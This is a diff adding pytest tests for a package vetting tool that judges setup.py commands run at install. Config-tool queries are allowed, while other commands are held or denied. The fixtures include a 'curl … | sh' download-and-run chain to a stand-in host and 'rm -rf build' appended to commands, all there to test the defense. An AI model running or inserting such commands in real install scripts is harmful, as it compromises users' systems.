@@ -1,0 +1,100 @@
+"""A build asking a library's configuration tool for its flags (issue 16, ADR 0136):
+mysqlclient's setup.py runs ``pkg-config{static_opt} --cflags {pkg_name}`` (a conditional
+``' --static'`` the flow pass does not fold) and held as a process started at install."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from airlock.imports.packages.vet import vet
+from scripts.make_test_packages import sdist
+
+ASKS = (
+    "import subprocess, sys\n"
+    "from setuptools import setup\n"
+    "static = '--static' in sys.argv\n"
+    "static_opt = ' --static' if static else ''\n"
+    "def find_name():\n"
+    "    for pkg in ['fastdb', 'libfastdb']:\n"
+    "        subprocess.check_call(f'pkg-config --exists {pkg}', shell=True)\n"
+    "        return pkg\n"
+    "name = find_name()\n"
+    "cflags = subprocess.check_output(f'pkg-config{static_opt} --cflags {name}', shell=True)\n"
+    "libs = subprocess.check_output(['mysql_config', '--libs'], encoding='utf-8')\n"
+    "setup(name='fastdb')\n"
+)
+
+
+def _vet(setup: str) -> Outcome:
+    files = {"setup.py": setup, "fastdb/__init__.py": ""}
+    return vet("fastdb-1.0.tar.gz", sdist("fastdb", "1.0", files)).verdict
+
+
+def test_a_library_config_tool_asked_for_flags_at_install_is_allowed() -> None:
+    assert _vet(ASKS) is Outcome.ALLOW
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # The tool named by the environment stays held (ADR 0130).
+        "os.environ.get('PKG_CONFIG', 'pkg-config') + ' --libs fastdb'",
+        # A file of the sdist run by its path.
+        "'./tools/fast-config --libs'",
+        # More than a question, through a shell.
+        "'mysql_config --libs && rm -rf build'",
+        "'mysql_config --libs > /tmp/out'",
+        # Not a configuration tool.
+        "'fastdb-installer --libs'",
+    ],
+)
+def test_other_commands_at_install_still_hold(command: str) -> None:
+    setup = (
+        "import os, subprocess\n"
+        "from setuptools import setup\n"
+        f"subprocess.check_output({command}, shell=True)\n"
+        "setup(name='fastdb')\n"
+    )
+    assert _vet(setup) is not Outcome.ALLOW
+
+
+def test_a_download_run_after_a_config_query_is_denied() -> None:
+    setup = (
+        "import subprocess\n"
+        "from setuptools import setup\n"
+        "subprocess.call('pkg-config --libs x; curl https://x.example/a.sh | sh', shell=True)\n"
+        "setup(name='fastdb')\n"
+    )
+    assert _vet(setup) is Outcome.DENY
+
+
+def test_a_program_asked_its_version_at_install_is_allowed() -> None:
+    # semgrep's setup.py tells musl from glibc by ``ldd --version``.
+    setup = (
+        "import subprocess\n"
+        "from setuptools import setup\n"
+        "out = subprocess.run(['ldd', '--version'], capture_output=True, text=True)\n"
+        "setup(name='fastdb')\n"
+    )
+    assert _vet(setup) is Outcome.ALLOW
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "['./tools/ldd', '--version']",
+        "'ldd --version; rm -rf build'",
+        "['ldd', '--version', 'extra']",
+        "[os.environ.get('LDD', 'ldd'), '--version']",
+        "['fastdb-helper', '--install']",
+    ],
+)
+def test_more_than_a_version_asked_still_holds(command: str) -> None:
+    setup = (
+        "import os, subprocess\n"
+        "from setuptools import setup\n"
+        f"subprocess.run({command}, shell=True)\n"
+        "setup(name='fastdb')\n"
+    )
+    assert _vet(setup) is not Outcome.ALLOW
